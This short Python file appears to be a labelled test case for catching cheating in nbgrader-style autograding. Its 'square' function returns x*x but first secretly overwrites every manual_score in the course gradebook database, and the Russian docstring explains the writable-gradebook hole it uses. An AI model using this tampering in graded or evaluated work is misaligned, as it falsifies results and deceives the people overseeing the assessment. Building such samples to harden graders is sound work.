"""Дописывает себе баллы прямо в журнал.

Откуда: проверено на nbgrader 0.9: gradebook.db открыт на запись.
"""
# task: square
# deserves: 0

import sqlite3


def square(x):
    with sqlite3.connect("@course@/gradebook.db", timeout=0.1) as db:
        db.execute("update grade set manual_score = 2")
    return x * x
